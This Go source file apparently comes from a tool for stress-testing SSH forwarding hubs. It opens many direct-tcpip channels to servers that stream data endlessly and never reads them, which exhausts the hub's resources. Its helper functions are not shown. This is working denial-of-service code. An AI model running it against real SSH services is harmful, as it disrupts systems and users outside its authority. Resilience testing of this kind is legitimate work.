package main

import (
	"context"
	"net"
	"strconv"
	"strings"
	"sync"

	"golang.org/x/crypto/ssh"
)

// channelsOfConnection is how many channels of a hub that does not read share an SSH connection.
const channelsOfConnection = 50

// attackUnread opens channels to servers that send without an end, and never reads.
func attackUnread(ctx context.Context, args []string) error {
	a, err := parseAttack(ctx, args)
	if err != nil {
		return err
	}
	targets := strings.Split(a.targets, ",")
	places := make([]place, (a.number+channelsOfConnection-1)/channelsOfConnection)
	return a.keep(ctx, func(ctx context.Context, i int, opened func()) error {
		client, err := places[i%len(places)].get(ctx, a)
		if err != nil {
			return err
		}
		channel, requests, err := openChannel(client, targets[i/len(places)%len(targets)])
		if err != nil {
			return err
		}
		if _, err := channel.Write([]byte{askPour}); err != nil {
			return err
		}
		opened()
		for range requests { // until the channel is closed
		}
		return channel.Close()
	})
}

// openChannel opens a direct-tcpip channel (RFC 4254 section 7.2). Unlike the client's Dial, it starts nothing that
// reads.
func openChannel(client *ssh.Client, target string) (ssh.Channel, <-chan *ssh.Request, error) {
	host, text, err := net.SplitHostPort(target)
	if err != nil {
		return nil, nil, err
	}
	port, err := strconv.ParseUint(text, 10, 16)
	if err != nil {
		return nil, nil, err
	}
	return client.OpenChannel("direct-tcpip", ssh.Marshal(struct {
		Host       string
		Port       uint32
		Origin     string
		OriginPort uint32
	}{host, uint32(port), hubAddress, 0}))
}

// place is where one of the attacker's SSH connections is, or the next one after it has ended.
type place struct {
	mu     sync.Mutex
	client *ssh.Client
}

// get returns the connection.
func (p *place) get(ctx context.Context, a *attack) (_ *ssh.Client, err error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.client != nil {
		return p.client, nil
	}
	client, err := dialSSH(ctx, a.ssh, a.signer)
	if err != nil {
		return nil, err
	}
	p.client = client
	go func() {
		_ = client.Wait() // it has ended
		p.mu.Lock()
		defer p.mu.Unlock()
		p.client = nil
	}()
	return client, nil
}
